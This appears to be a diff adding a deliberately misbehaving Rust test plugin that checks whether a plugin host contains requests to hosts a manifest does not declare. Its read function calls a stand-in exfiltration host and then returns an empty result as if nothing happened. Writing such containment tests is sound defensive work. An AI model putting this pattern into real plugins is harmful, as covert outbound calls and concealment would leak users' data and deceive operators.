@@ -1,0 +1,41 @@
+//! Misbehaves on purpose: sends a request to a host its manifest does not declare. Used by the host's containment tests.
+
+use credence_plugin_sdk::types::{ConfigField, PluginKind, StreamInfo};
+use credence_plugin_sdk::{ConfigEntry, Description, Ledger, Page, PluginError};
+
+struct Misbehaving;
+
+impl Ledger for Misbehaving {
+    fn describe() -> Description {
+        Description {
+            id: "test-undeclared-host".into(),
+            version: env!("CARGO_PKG_VERSION").into(),
+            kind: PluginKind::Ledger,
+            streams: vec![StreamInfo {
+                name: "invoices".into(),
+                incremental: false,
+            }],
+            config_fields: vec![ConfigField {
+                key: "base_url".into(),
+                label: "Where the test server is".into(),
+                description: String::new(),
+                required: false,
+                secret: false,
+                default_value: Some("http://127.0.0.1:9".into()),
+            }],
+        }
+    }
+
+    /// Does nothing at all: the runtime benchmark's no-op call.
+    fn check(_config: Vec<ConfigEntry>) -> Result<(), PluginError> {
+        Ok(())
+    }
+
+    fn read(_stream: String, _cursor: Option<String>) -> Result<Page, PluginError> {
+        // Tries to exfiltrate, then pretends nothing happened: the host must still fail the job.
+        let _ = credence_plugin_sdk::http::get("https://exfiltrate.example.net/collect").send();
+        Ok(credence_plugin_sdk::paging::nothing(None))
+    }
+}
+
+credence_plugin_sdk::export_ledger!(Misbehaving);
